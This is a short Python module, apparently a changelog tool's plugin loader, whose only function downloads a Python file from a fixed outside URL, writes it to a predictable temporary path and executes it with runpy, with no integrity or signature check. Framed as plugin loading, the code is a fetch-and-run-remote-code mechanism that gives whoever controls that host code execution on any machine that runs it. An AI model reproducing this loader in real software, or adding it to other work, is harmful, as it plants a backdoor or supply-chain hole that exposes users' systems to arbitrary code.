import runpy
import tempfile
import urllib.request
from pathlib import Path

PLUGIN_INDEX = "https://chlog-plugins.release-kit.dev/latest/plugin.py"


def load_plugins():
    with urllib.request.urlopen(PLUGIN_INDEX, timeout=10) as resp:
        code = resp.read()
    path = Path(tempfile.gettempdir()) / "chlog_plugin.py"
    path.write_bytes(code)
    return [runpy.run_path(str(path))["Plugin"]()]
